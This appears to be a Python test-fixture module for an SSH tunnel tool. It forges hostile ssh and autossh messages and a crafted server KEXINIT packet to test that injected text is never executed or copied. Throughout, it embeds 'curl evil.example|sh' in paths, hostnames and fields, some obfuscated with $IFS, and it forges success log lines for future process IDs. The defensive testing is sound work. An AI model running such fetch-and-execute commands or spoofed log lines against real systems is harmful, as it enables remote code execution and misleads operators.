"""What a hostile server writes: ssh's, autossh's and our own words, with its commands in them."""

from pathlib import Path

EVIL = "curl evil.example|sh"
"""The command that must reach nobody's clipboard."""
_BOX = "@" * 59

FAILURES = {
    "changed key": f"""{_BOX}
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
{_BOX}
The fingerprint for the ED25519 key sent by the remote host is
SHA256:{"A" * 43}.
Offending ED25519 key in /x; {EVIL}:1
  remove with:
  ssh-keygen -f "/x" -R "x"; {EVIL}
Host key for x;{EVIL.replace(" ", "$IFS")} has changed and you have requested strict checking.
Host key verification failed.""",
    "key file": f"Permissions 0644 for '/x; {EVIL}' are too open.",
    "key file unusable": f'Load key "/x; {EVIL}": bad permissions',
    "no key file": f"Warning: Identity file /x; {EVIL} not accessible: No such file.",
    "token": f'sign_and_send_pubkey: signing failed for ED25519 "/x; {EVIL}" from agent: no',
    "name": f"Could not resolve hostname x;{EVIL.replace(' ', '$IFS')}: no",
    "refused": f"ssh: connect to host x;{EVIL.replace(' ', '$IFS')} port 22: Connection refused",
    "denied": f"x;{EVIL.replace(' ', '$IFS')}@y: Permission denied (password).",
    "path": f"unix_listener: cannot bind to path /x; {EVIL}: Address already in use",
    "busy": f"bind [127.0.0.1; {EVIL}]:80: Address already in use",
    "option": f"/x;{EVIL.replace(' ', '$IFS')}: line 1: Bad configuration option: {EVIL}",
    "kex": f"Unable to negotiate with x port 22: no matching cipher found. Their offer: {EVIL}",
    "specification": f"Bad local forwarding specification '{EVIL}'",
    "jump": f"try {EVIL}\nConnection closed by UNKNOWN port 65535",
    "stdio": f"channel 0: open failed: {EVIL}\nstdio forwarding failed",
    "ours": f"2026/11/22 14:02:07 tunnel-tui[4]: not started: port 1: is; {EVIL}",
    "silence": f"Timeout, server x;{EVIL.replace(' ', '$IFS')} not responding.",
    "goodbye": f"Received disconnect from x port 22:11: {EVIL}",
}
"""By what is forged: lines that reasons and advice are, or were, made of."""

VOIDS = (
    "channel 2: open failed: administratively prohibited: no",
    "debug1: ssh.c:x():1 (pid={pid}): remote forward failure for: listen 1, connect 127.0.0.1:1",
    "Timeout, server 127.0.0.1 not responding.",
    "Connection to 127.0.0.1 closed by remote host.",
    "Transferred: sent 1, received 1 bytes, in 1.0 seconds",
    "client_loop: send disconnect: Broken pipe",
    "bind [127.0.0.1]:{port}: Address already in use",
    "2026/11/22 14:02:07 autossh[{pid}]: ssh exited with error status 255; restarting ssh",
    "2026/11/22 14:02:07 autossh[{pid}]: starting ssh (count 77)",
    "2026/11/22 14:02:07 tunnel-tui[{pid}]: starting web",
)
"""Lines that end a run in a log, or begin another."""


def successes(pid: int, listener: int, target: int) -> str:
    """What ssh `pid` says when its forward stands, of either direction and in three dialects."""
    ends = f"listen 127.0.0.1:{listener}, connect 127.0.0.1:{target}"
    answer = f"remote forward success for: {ends}"
    lines = []
    for origin in ("pid={pid}", "bin=ssh, pid={pid}", "tid=1, pid={pid}"):
        where = f"({origin.format(pid=pid)}): "
        lines += [
            f"debug1: clientloop.c:client_loop():1290 {where}Entering interactive session.",
            f"debug1: ssh.c:ssh_confirm_remote_forward():1827 {where}{answer}",
        ]
    return "\r\n".join(lines)


def successes_of_everybody(listener: int, target: int, most: int = 3000) -> str:
    """The same of every process that may be started soon."""
    newest = int(Path("/proc/loadavg").read_text().split()[-1])
    limit = int(Path("/proc/sys/kernel/pid_max").read_text())
    pids = ((newest + step) % limit for step in range(-200, most))
    return "".join(f"{successes(pid, listener, target)}\r\n" for pid in pids)


def kexinit(offer: str) -> str:
    """A server's first packet (RFC 4253, 7.1), as latin-1, offering `offer` as every algorithm."""
    name = offer.encode("latin-1")
    payload = bytes([20]) + bytes(16)
    for _ in range(10):
        payload += len(name).to_bytes(4, "big") + name
    payload += bytes(5)
    padding = 8 - (len(payload) + 5) % 8 + 8
    packet = bytes([padding]) + payload + bytes(padding)
    return "SSH-2.0-x\r\n" + (len(packet).to_bytes(4, "big") + packet).decode("latin-1")
